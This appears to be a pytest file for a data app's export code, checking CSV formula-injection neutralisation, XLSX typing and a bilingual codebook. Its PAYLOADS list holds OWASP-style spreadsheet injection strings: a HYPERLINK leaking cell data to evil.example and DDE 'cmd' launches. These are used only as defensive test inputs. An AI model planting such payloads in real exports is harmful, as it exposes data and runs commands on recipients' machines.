"""Every CSV the app writes is safe to open in Excel or LibreOffice; XLSX keeps text as text,
dates as dates, and carries the codebook; the README's codebook is the one in lib/codebook.py."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from lib import codebook, views
from lib import export as ex
from lib import queries as q
from lib.schema import EVENT_COLUMNS
from lib.state import ViewState
from tests.conftest import ROOT

# The classic payloads (OWASP "CSV Injection"): each would run, link out or compute when opened.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def events(notes: list[str]) -> pd.DataFrame:
    rows = [
        {c: None for c in EVENT_COLUMNS}
        | {
            "event_id": f"e{i}",
            "provenance": "reported",
            "notes": n,
            "district": n,
            "lon": -74.5,
            "date": dt.date(2016, 9, 3),
        }
        for i, n in enumerate(notes)
    ]
    return pd.DataFrame(rows, columns=list(EVENT_COLUMNS))


def meta() -> ex.ExportMeta:
    return ex.ExportMeta(
        view_link="http://localhost/?areas=VRAEM",
        data_version="abc123",
        filters={},
        provenance_note="reported",
    )


def csv_cells(blob: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(blob), encoding="utf-8-sig", dtype=str, keep_default_na=False)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_csv_neutralises_formula_payloads_in_every_text_column(payload):
    back = csv_cells(ex.csv_bytes(events([payload, "plain text"]), meta()))
    for column in ("notes", "district"):
        assert back[column].iloc[0] == "'" + payload, column  # inert, and still readable
        assert back[column].iloc[1] == "plain text"
    assert back["lon"].iloc[0] == "-74.5"  # numbers are not text: a negative longitude stays a number


def test_neutralising_can_fail_on_the_raw_writer():
    """pandas on its own writes the payloads as they are: the check above is not vacuous."""
    raw = csv_cells(events(PAYLOADS).to_csv(index=False).encode())
    assert raw["notes"].iloc[0].startswith("=")


def test_xlsx_keeps_payloads_as_text_and_dates_as_dates():
    wb = load_workbook(io.BytesIO(ex.xlsx_bytes(events(PAYLOADS), meta(), None)))
    data = wb["data"]
    header = [c.value for c in data[1]]
    notes, date = header.index("notes") + 1, header.index("date") + 1
    for row in range(2, len(PAYLOADS) + 2):
        cell = data.cell(row=row, column=notes)
        assert cell.data_type == "s", (row, cell.value)
    stamp = data.cell(row=2, column=date)
    assert stamp.is_date and stamp.number_format == "yyyy-mm-dd", stamp.number_format


def test_xlsx_date_columns_from_the_database_are_dates_not_midnights(fixture_db):
    rows = q.events_for_export(fixture_db, q.filters_for(ViewState(), q.data_context(fixture_db)))
    wb = load_workbook(io.BytesIO(ex.xlsx_bytes(rows, meta(), None)))
    header = [c.value for c in wb["data"][1]]
    cell = wb["data"].cell(row=2, column=header.index("date") + 1)
    assert cell.is_date and "h:mm" not in cell.number_format


def test_xlsx_has_the_codebook_sheet_in_both_languages():
    wb = load_workbook(io.BytesIO(ex.xlsx_bytes(events(["x"]), meta(), None)))
    rows = list(wb["codebook"].iter_rows(values_only=True))
    assert list(rows[0]) == ["column", "column_es", "meaning_en", "meaning_es", "unit", "allowed_values"]
    by_name = {r[0]: r for r in rows[1:]}
    assert set(EVENT_COLUMNS) <= set(by_name)
    assert by_name["quantity_kg"][4] == "kilograms" and by_name["quantity_kg"][1] == "cantidad_kg"
    assert "simulated" in by_name["provenance"][5]


def test_bundle_holds_the_codebook_and_is_dated_at_export(fixture_db):
    view = views.View(ViewState(), q.data_context(fixture_db), "en")
    archive = zipfile.ZipFile(
        io.BytesIO(views.bundle(fixture_db, view, version="abc123", link="http://localhost/"))
    )
    book = csv_cells(archive.read("codebook.csv"))
    assert book["column"].tolist() == codebook.frame()["column"].tolist()
    years = {info.date_time[0] for info in archive.infolist()}
    assert years == {dt.datetime.now(dt.UTC).year} or years == {dt.datetime.now(dt.UTC).year - 1}


def test_readme_codebook_section_is_the_codebook():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert codebook.markdown() in readme, "README's codebook is stale: paste lib.codebook.markdown()"


def test_codebook_refuses_an_undocumented_schema_column(monkeypatch):
    monkeypatch.setattr(codebook, "EVENT_COLUMNS", (*EVENT_COLUMNS, "new_column"))
    with pytest.raises(ValueError, match="new_column"):
        codebook.frame()
